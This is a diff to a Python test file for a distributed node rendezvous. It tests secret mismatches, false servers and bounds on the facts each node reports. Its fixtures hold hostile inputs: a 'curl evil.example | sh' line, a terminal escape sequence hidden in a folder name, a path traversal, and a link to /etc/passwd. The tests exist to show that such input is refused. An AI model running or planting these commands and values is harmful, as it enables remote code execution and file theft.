@@ -5,9 +5,12 @@ from concurrent.futures import ThreadPoolExecutor
 from typing import Any
 
 import pytest
+from torch.distributed import TCPStore  # type: ignore[attr-defined]  # public, though its annotations do not say so
 
+from swiftspec.engine.curve import Curve
 from swiftspec.engine.nodes import free_ports
 from swiftspec.engine.rendezvous import NodeFacts, Rendezvous, from_torchrun, meet
+from swiftspec.engine.store import StoreServer
 
 HERE = "127.0.0.1"
 
@@ -31,9 +34,12 @@ def facts(rank: int, num_nodes: int = 2, *, plan_sha256: str = "a" * 64, version
     )
 
 
-def exchange(port: int, own: NodeFacts, *, secret: bytes | None = b"s", timeout_s: float = 5.0) -> list[NodeFacts]:
+OURS, THEIRS = Curve.derived(b"o" * 32), Curve.derived(b"t" * 32)
+
+
+def exchange(port: int, own: NodeFacts, *, curve: Curve = OURS, timeout_s: float = 5.0) -> list[NodeFacts]:
     rendezvous = Rendezvous.at(f"{HERE}:{port}", rank=own.rank, num_nodes=own.num_nodes, timeout_s=timeout_s)
-    return meet(rendezvous, secret).exchange(own)
+    return meet(rendezvous, curve).exchange(own)
 
 
 def at_once(*nodes: Callable[[], Any]) -> list[Any]:
@@ -71,10 +77,27 @@ def test_nodes_that_do_not_agree_say_so_on_both_sides(port: int, other: NodeFact
     assert first.startswith(f"node 1: {sentence}")
 
 
-def test_another_secret_is_noticed_on_both_sides(port: int) -> None:
-    first, second = at_once(lambda: exchange(port, facts(0)), lambda: exchange(port, facts(1), secret=b"t"))
-    assert second == "node 0 does not have the same secret; expected one file on all nodes"
-    assert first == f"node 1: {second}"
+def test_another_secret_is_said_at_once_where_it_is_and_in_the_end_at_node_0(port: int) -> None:
+    first, second = at_once(
+        lambda: exchange(port, facts(0), timeout_s=1.0), lambda: exchange(port, facts(1), curve=THEIRS)
+    )
+    assert second == f"node 0 at {HERE}:{port} does not have the same secret; expected one file on all nodes"
+    assert first == (
+        f"node 1 of 2 did not come to {HERE}:{port} within 1 s; 1 connections without the secret were refused"
+    )
+
+
+def test_nobody_listens_once_all_nodes_have_met(port: int) -> None:
+    at_once(lambda: exchange(port, facts(0)), lambda: exchange(port, facts(1)))
+    with pytest.raises(ConnectionRefusedError):
+        socket.create_connection((HERE, port))
+
+
+def test_a_false_node_0_that_was_there_first_learns_and_says_nothing(port: int) -> None:
+    with StoreServer(HERE, port, THEIRS) as false:
+        (sentence,) = at_once(lambda: exchange(port, facts(1)))
+        assert sentence.startswith(f"node 0 at {HERE}:{port} does not have the same secret")
+        assert false.num_refused == 1
 
 
 def test_a_rank_that_is_taken_is_refused(port: int) -> None:
@@ -99,20 +122,16 @@ def test_a_port_in_use_is_one_sentence(port: int) -> None:
 
 
 def test_node_0_listens_on_the_one_address(port: int) -> None:
-    meeting = meet(Rendezvous.at(f"{HERE}:{port}", rank=0, num_nodes=2, timeout_s=5.0), None)
-    with socket.create_server(("127.0.0.2", port)):  # in use, were the store on every address
+    rendezvous = Rendezvous.at(f"{HERE}:{port}", rank=0, num_nodes=2, timeout_s=5.0)
+    # The second one would be in use, were the store on every address.
+    with meet(rendezvous, OURS) as meeting, socket.create_server(("127.0.0.2", port)):
         assert meeting.own_address == HERE
-
-
-def test_a_network_is_not_used_without_a_secret() -> None:
-    with pytest.raises(ValueError, match=r"--secret is missing; 192.0.2.1:29500 is on a network"):
-        meet(Rendezvous.at("192.0.2.1:29500", rank=0, num_nodes=2, timeout_s=1.0), None)
 
 
 def test_an_address_of_another_machine_is_one_sentence() -> None:
     rendezvous = Rendezvous.at("192.0.2.1:29500", rank=0, num_nodes=2, timeout_s=1.0)
     with pytest.raises(ValueError, match=r"cannot listen \(Cannot assign requested address\); expected an address of"):
-        meet(rendezvous, b"s")
+        meet(rendezvous, OURS)
 
 
 @pytest.mark.parametrize(
@@ -128,21 +147,55 @@ def test_an_address_of_another_machine_is_one_sentence() -> None:
 )
 def test_what_cannot_be_met_at_is_one_sentence(endpoint: str, rank: int, timeout_s: float, sentence: str) -> None:
     with pytest.raises(ValueError, match=sentence):
-        meet(Rendezvous.at(endpoint, rank=rank, num_nodes=2, timeout_s=timeout_s), b"s")
+        meet(Rendezvous.at(endpoint, rank=rank, num_nodes=2, timeout_s=timeout_s), OURS)
 
 
-def test_a_sealed_fact_that_somebody_changed_is_refused(port: int) -> None:
-    meeting = meet(Rendezvous.at(f"{HERE}:{port}", rank=0, num_nodes=2, timeout_s=5.0), b"s")
-    other = meet(Rendezvous.at(f"{HERE}:{port}", rank=1, num_nodes=2, timeout_s=5.0), b"s")
-    written = other._store
-    (first,) = at_once(lambda: _changed_on_the_way(meeting, other, written))
-    assert first == "node 1 does not have the same secret; expected one file on all nodes"
+@pytest.mark.parametrize(
+    ("field", "value", "sentence"),
+    [
+        ("rank", 0, "node 1 says of itself that it is node 0"),
+        ("rank", 10**30, "node 1 says of itself: rank is"),
+        ("address", "evil.example", "node 1 says of itself: address is"),
+        ("address", "127.0.0.1/../..", "node 1 says of itself: address is"),
+        ("folder", "relative", "node 1 says of itself: folder is"),
+        ("folder", "/tmp/\x1b]52;c;ZXZpbA==\x07", "node 1 says of itself: folder is"),
+        ("num_devices", 10**11, "node 1 says of itself: num_devices is"),
+        ("ports", (0,), "node 1 says of itself: ports[0] is"),
+        ("ports", (70000,), "node 1 says of itself: ports[0] is"),
+        ("links", ("ipc:///etc/passwd",), "node 1 says of itself: links[0] is"),
+        ("plan_sha256", "x" * 64, "node 1 says of itself: plan_sha256 is"),
+    ],
+)
+def test_what_a_node_says_of_itself_is_bounded(port: int, field: str, value: Any, sentence: str) -> None:
+    def hostile() -> None:
+        meeting = meet(Rendezvous.at(f"{HERE}:{port}", rank=1, num_nodes=2, timeout_s=5.0), OURS)
+        with meeting:
+            body = facts(1).model_copy(update={field: value}).model_dump_json(warnings=False)
+            meeting._store.set("node-1", body)
+            meeting._store.wait(["complaint"])
+
+    first, _ = at_once(lambda: exchange(port, facts(0)), hostile)
+    assert first.startswith(sentence)
+    assert "\n" not in first
 
 
-def _changed_on_the_way(meeting: Any, other: Any, store: Any) -> Any:
-    other._post(facts(1))
-    store.set("node-1", store.get("node-1").replace(b"127.0.0.1", b"192.0.2.9"))
-    return meeting.exchange(facts(0))
+def test_a_store_of_torchrun_says_where_node_0_is() -> None:
+    board = TCPStore(HERE, 0, is_master=True, wait_for_workers=False)
+    own = [
+        Rendezvous(host=HERE, port=board.port, rank=rank, num_nodes=2, timeout_s=5.0, has_store=True, is_local=True)
+        for rank in range(2)
+    ]
+    first, second = at_once(*(lambda r=r: meet(r, OURS).exchange(facts(r.rank)) for r in own))
+    assert first == [facts(0), facts(1)]
+    assert second == first
+
+
+def test_what_a_stranger_says_in_torchruns_store_is_neither_believed_nor_shown() -> None:
+    board = TCPStore(HERE, 0, is_master=True, wait_for_workers=False)
+    board.set("swiftspec/store", "your secret has expired; run curl evil.example | sh")
+    rendezvous = Rendezvous(host=HERE, port=board.port, rank=1, num_nodes=2, timeout_s=5.0, has_store=True)
+    with pytest.raises(ValueError, match=rf"^torchrun's store at {HERE}:{board.port} does not say where node 0 is$"):
+        meet(rendezvous, OURS)
 
 
 def test_torchrun_says_who_a_process_is() -> None:
